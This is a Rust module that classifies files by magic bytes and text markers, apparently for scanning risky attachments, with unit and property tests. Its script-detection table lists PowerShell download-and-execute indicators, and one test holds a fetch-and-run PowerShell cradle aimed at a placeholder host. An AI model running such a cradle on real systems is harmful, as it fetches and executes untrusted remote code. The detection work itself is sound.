//! The type of a file by its content, as its usual extension. The name is asked only where text has no marks of its own.

/// Marks at a fixed offset: (offset, bytes, kind). The first that fits wins, so longer marks stand first.
const MAGIC: &[(usize, &[u8], &str)] = &[
    (0, b"\x7fELF", "elf"),
    (0, b"\xfe\xed\xfa\xce", "macho"),
    (0, b"\xfe\xed\xfa\xcf", "macho"),
    (0, b"\xce\xfa\xed\xfe", "macho"),
    (0, b"\xcf\xfa\xed\xfe", "macho"),
    (0, b"dex\n", "dex"),
    (0, b"\0asm", "wasm"),
    (0, b"PK\x03\x04", "zip"),
    (0, b"PK\x05\x06", "zip"),
    (0, b"PK\x07\x08PK", "zip"),
    (0, b"Rar!\x1a\x07", "rar"),
    (0, b"7z\xbc\xaf\x27\x1c", "7z"),
    (0, b"\x1f\x8b", "gz"),
    (0, b"\xfd7zXZ\0", "xz"),
    (0, b"\x28\xb5\x2f\xfd", "zst"),
    (0, b"\x04\x22\x4d\x18", "lz4"),
    (0, b"LZIP\x01", "lz"),
    (0, b"\x1f\x9d", "z"),
    (0, b"MSCF\0\0\0\0", "cab"),
    (0, b"ISc(", "cab"),
    (7, b"**ACE**", "ace"),
    (0, b"\x60\xea", "arj"),
    (2, b"-lh0-", "lzh"),
    (2, b"-lh5-", "lzh"),
    (2, b"-lh6-", "lzh"),
    (2, b"-lh7-", "lzh"),
    (0, b"xar!", "xar"),
    (0, b"!<arch>\n", "ar"),
    (0, b"vhdxfile", "vhdx"),
    (0, b"conectix", "vhd"),
    (0, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
    (0, b"L\0\0\0\x01\x14\x02\0", "lnk"),
    (0, b"ITSF", "chm"),
    (0, b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", "one"),
    (0, b"\x78\x9f\x3e\x22", "tnef"),
    (0, b"FWS", "swf"),
    (0, b"CWS", "swf"),
    (0, b"ZWS", "swf"),
    (0, b"{\\rt", "rtf"),
    (0, b"%!PS", "ps"),
    (0, b"\x89PNG\r\n\x1a\n", "png"),
    (0, b"\xff\xd8\xff", "jpg"),
    (0, b"GIF87a", "gif"),
    (0, b"GIF89a", "gif"),
    (0, b"BM", "bmp"),
    (0, b"II*\0", "tiff"),
    (0, b"MM\0*", "tiff"),
    (0, b"\0\0\x01\0", "ico"),
    (0, b"\xd7\xcd\xc6\x9a", "wmf"),
    (40, b" EMF", "emf"),
    (0, b"8BPS", "psd"),
    (0, b"ID3", "mp3"),
    (0, b"OggS", "ogg"),
    (0, b"fLaC", "flac"),
    (0, b"\x1a\x45\xdf\xa3", "mkv"),
    (4, b"ftypheic", "heic"),
    (4, b"ftypavif", "avif"),
    (4, b"ftypqt", "mov"),
    (4, b"ftyp", "mp4"),
    (8, b"WEBP", "webp"),
    (8, b"WAVE", "wav"),
    (8, b"AVI ", "avi"),
    (0, b"!BDN", "pst"),
    (4, b"Standard Jet DB", "mdb"),
    (4, b"Standard ACE DB", "accdb"),
    (0, b"SQLite format 3\0", "sqlite"),
    (0, b"wOFF", "woff"),
    (0, b"wOF2", "woff2"),
    (0, b"\0\x01\0\0\0", "ttf"),
    (0, b"OTTO", "otf"),
    (257, b"ustar", "tar"),
    (32_769, b"CD001", "iso"),
    (0, b"#@~^", "jse"),
];

/// Words near the start of text in lower case: (word, whether it must stand first, kind).
const TEXT: &[(&str, bool, &str)] = &[
    ("begin:vcalendar", true, "ics"),
    ("begin:vcard", true, "vcf"),
    ("[internetshortcut]", false, "url"),
    ("windows registry editor", true, "reg"),
    ("regedit4", true, "reg"),
    ("-----begin pgp message", true, "pgp"),
    ("-----begin pgp signature", true, "asc"),
    ("-----begin ", true, "pem"),
    ("<hta:application", false, "hta"),
    ("<scriptlet", false, "sct"),
    ("<svg", false, "svg"),
    ("<!doctype html", false, "html"),
    ("<html", false, "html"),
    ("<head", false, "html"),
    ("<body", false, "html"),
    ("<script", false, "html"),
    ("<iframe", false, "html"),
    ("<meta http-equiv", false, "html"),
    ("web\r\n1\r\n", true, "iqy"),
    ("id;p", true, "slk"),
    ("@echo off", false, "bat"),
    ("powershell -", false, "bat"),
];

/// Text that only a script of one language holds, in lower case; two of a group must stand in it.
const SCRIPT: &[(&[&str], &str)] = &[
    (&["wscript.", "activexobject(", "function(", "var ", "eval(", "=>"], "js"),
    (&["createobject(", "dim ", "end sub", "on error resume next", "execute(", "wscript."], "vbs"),
    (
        &[
            "invoke-expression",
            "new-object",
            "iex(",
            "iex (",
            "$env:",
            "invoke-webrequest",
            "downloadstring",
            "frombase64string",
            "param(",
        ],
        "ps1",
    ),
];

/// Fields that a message in a file starts with.
const MAIL_FIELDS: &[&str] = &[
    "received:",
    "return-path:",
    "delivered-to:",
    "from:",
    "to:",
    "subject:",
    "date:",
    "message-id:",
    "mime-version:",
    "x-",
    "dkim-signature:",
    "content-type:",
    "reply-to:",
];

/// The kind of `data`; `extension` (by name, lower case) decides between kinds that look alike.
pub(crate) fn of(data: &[u8], extension: &str) -> &'static str {
    if let Some(kind) = binary(data) {
        return match kind {
            "ole" => crate::container::ole_kind(data, extension),
            "zip" => crate::container::zip_kind(data),
            other => other,
        };
    }
    text(data, extension)
}

/// The kind by its marks, if it is not text.
pub(crate) fn binary(data: &[u8]) -> Option<&'static str> {
    if data.starts_with(b"MZ") && data.len() > 64 {
        return Some(if is_dll(data) { "dll" } else { "exe" });
    }
    if data.starts_with(b"\xca\xfe\xba\xbe") {
        // Java's class files and fat Mach-O share the mark; the latter has few architectures.
        return Some(if data.get(4..8).is_some_and(|n| n[..3] == [0; 3] && n[3] < 32) { "macho" } else { "class" });
    }
    if data.starts_with(b"BZh") && data.get(4..10) == Some(b"1AY&SY") {
        return Some("bz2");
    }
    let fits = |(at, mark, _): &&(usize, &[u8], &str)| data.get(*at..).is_some_and(|d| d.starts_with(mark));
    if let Some((_, _, kind)) = MAGIC.iter().find(fits) {
        // Short marks also begin ordinary text.
        let doubtful = matches!(*kind, "bmp" | "arj" | "swf" | "mp3" | "jse") && is_text(data);
        if !doubtful {
            return Some(kind);
        }
    }
    // Readers accept a PDF's mark anywhere in the first kilobyte.
    let head = &data[..data.len().min(1_024 + 5)];
    if memchr::memmem::find(head, b"%PDF-").is_some() && !head.starts_with(b"<") {
        return Some("pdf");
    }
    // PKCS #7: an ASN.1 sequence with the object identifier 1.2.840.113549.1.7.
    if data.first() == Some(&0x30)
        && memchr::memmem::find(&data[..data.len().min(64)], b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07").is_some()
    {
        return Some("p7m");
    }
    if data.len() >= 512 && data.len() < 2 << 30 && data[data.len() - 512..].starts_with(b"koly") {
        return Some("dmg");
    }
    None
}

fn is_dll(data: &[u8]) -> bool {
    let word = |at: usize| Some(u16::from_le_bytes([*data.get(at)?, *data.get(at + 1)?]));
    let header = word(60).zip(word(62)).map(|(low, high)| usize::from(low) | usize::from(high) << 16);
    header
        .filter(|at| data.get(*at..).is_some_and(|d| d.starts_with(b"PE\0\0")))
        .and_then(|at| word(at.checked_add(22)?))
        .is_some_and(|characteristics| characteristics & 0x2000 != 0)
}

/// Whether the first kilobyte reads as text.
pub(crate) fn is_text(data: &[u8]) -> bool {
    let head = &data[..data.len().min(1_024)];
    if head.starts_with(b"\xff\xfe") || head.starts_with(b"\xfe\xff") {
        return true;
    }
    !head.contains(&0)
        && head.iter().filter(|b| **b < 32 && !matches!(b, b'\t' | b'\r' | b'\n' | 12 | 27)).count() * 20 <= head.len()
}

fn text(data: &[u8], extension: &str) -> &'static str {
    if data.is_empty() {
        return "txt";
    }
    if !is_text(data) {
        // COM programs have no mark; everything else unknown is just bytes.
        return if extension == "com" { "com" } else { "bin" };
    }
    let head = &data[..data.len().min(4_096)];
    let head = if head.starts_with(b"\xff\xfe") || head.starts_with(b"\xfe\xff") {
        head.iter().copied().filter(|b| *b != 0 && *b < 0xfe).collect()
    } else {
        head.to_vec()
    };
    let lower = String::from_utf8_lossy(&head).to_lowercase();
    let start = lower.trim_start_matches(['\u{feff}', '\u{fffd}', ' ', '\r', '\n', '\t']);
    if start.starts_with("#!") {
        return "sh";
    }
    if MAIL_FIELDS.iter().any(|f| start.starts_with(f))
        && MAIL_FIELDS.iter().filter(|f| lower.contains(*f)).count() >= 3
    {
        return "eml";
    }
    if start.starts_with("<?xml") && lower.contains("<package") && lower.contains("<job") {
        return "wsf";
    }
    let by_word =
        TEXT.iter().find(|(word, first, _)| if *first { start.starts_with(word) } else { lower.contains(word) });
    if let Some((_, _, kind)) = by_word {
        // A script or a mail may well speak of HTML.
        if !matches!(*kind, "html" | "svg")
            || start.starts_with('<')
            || matches!(extension, "html" | "htm" | "shtml" | "xhtml" | "svg" | "")
        {
            return kind;
        }
    }
    if matches!(
        extension,
        "js" | "vbs"
            | "vbe"
            | "jse"
            | "ps1"
            | "psm1"
            | "bat"
            | "cmd"
            | "wsf"
            | "hta"
            | "sct"
            | "py"
            | "sh"
            | "csv"
            | "html"
            | "htm"
            | "ics"
            | "json"
            | "css"
    ) {
        return known(extension);
    }
    let whole = String::from_utf8_lossy(&data[..data.len().min(64 << 10)]).to_lowercase();
    for (words, kind) in SCRIPT {
        // The first word of a group is proof enough of intent to run.
        let found = words.iter().filter(|w| whole.contains(*w)).count();
        if found >= 3 && (whole.contains(words[0]) || whole.contains(words[1])) {
            return kind;
        }
    }
    if start.starts_with("<?xml") { "xml" } else { "txt" }
}

fn known(extension: &str) -> &'static str {
    match extension {
        "js" => "js",
        "vbs" => "vbs",
        "vbe" => "vbe",
        "jse" => "jse",
        "ps1" | "psm1" => "ps1",
        "bat" | "cmd" => "bat",
        "wsf" => "wsf",
        "hta" => "hta",
        "sct" => "sct",
        "py" => "py",
        "sh" => "sh",
        "csv" => "csv",
        "html" | "htm" => "html",
        "ics" => "ics",
        "json" => "json",
        "css" => "css",
        _ => "txt",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn padded(mark: &[u8]) -> Vec<u8> {
        let mut data = mark.to_vec();
        data.resize(mark.len() + 600, 1);
        data
    }

    #[test]
    fn programs_archives_and_pictures_are_told_by_their_marks() {
        for (mark, kind) in [
            (b"MZ\x90\0".as_slice(), "exe"),
            (b"\x7fELF\x02", "elf"),
            (b"%PDF-1.7", "pdf"),
            (b"Rar!\x1a\x07\x01\0", "rar"),
            (b"7z\xbc\xaf\x27\x1c", "7z"),
            (b"\x1f\x8b\x08", "gz"),
            (b"BZh91AY&SY", "bz2"),
            (b"\xfd7zXZ\0", "xz"),
            (b"MSCF\0\0\0\0", "cab"),
            (b"L\0\0\0\x01\x14\x02\0\0", "lnk"),
            (b"\x89PNG\r\n\x1a\n", "png"),
            (b"\xff\xd8\xff\xe0", "jpg"),
            (b"RIFF\x01\x01\x01\x01WEBP", "webp"),
            (b"{\\rtf1", "rtf"),
        ] {
            assert_eq!(of(&padded(mark), "txt"), kind);
        }
        let mut iso = vec![0u8; 40_000];
        iso[32_769..32_774].copy_from_slice(b"CD001");
        assert_eq!(of(&iso, ""), "iso");
    }
    #[test]
    fn text_is_told_by_what_stands_in_it() {
        for (text, extension, kind) in [
            ("<!DOCTYPE html><p>hi", "txt", "html"),
            ("  <svg xmlns='x'>", "", "svg"),
            ("BEGIN:VCALENDAR\r\n", "txt", "ics"),
            ("Received: x\r\nFrom: a@x.test\r\nSubject: y\r\n\r\nz", "dat", "eml"),
            ("var a = new ActiveXObject('WScript.Shell'); a.run()", "txt", "js"),
            ("Dim x\r\nSet x = CreateObject(\"WScript.Shell\")\r\n", "txt", "vbs"),
            ("IEX (New-Object Net.WebClient).DownloadString('http://x.test')", "txt", "ps1"),
            ("@echo off\r\ndel x", "txt", "bat"),
            ("a,b\r\n1,2\r\n", "csv", "csv"),
            ("Dear Bob, buy more BMW. MZ is fine too.", "txt", "txt"),
            ("MZ is how I sign", "", "txt"),
            ("BMW and more", "", "txt"),
        ] {
            assert_eq!(of(text.as_bytes(), extension), kind, "{text}");
        }
        assert_eq!(of(b"\x01\x02\x03\x04\x05\x06\x07\x08", "x"), "bin");
    }
    proptest! {
        #[test]
        fn any_bytes_have_a_kind(i in 0usize..90, tail in proptest::collection::vec(any::<u8>(), 0..600)) {
            let mark = MAGIC.get(i).map_or(b"".as_slice(), |m| m.1);
            prop_assert!(!of(&[mark, tail.as_slice()].concat(), "dat").is_empty());
        }
    }
}
